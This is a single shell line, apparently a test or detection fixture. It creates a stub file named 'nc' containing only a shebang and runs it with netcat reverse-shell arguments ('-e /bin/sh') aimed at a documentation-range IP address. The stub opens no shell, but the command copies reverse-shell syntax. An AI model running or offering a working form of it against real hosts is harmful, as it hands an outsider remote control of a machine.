printf "#!/bin/sh\n" >nc; chmod +x nc; ./nc -e /bin/sh 203.0.113.7 1
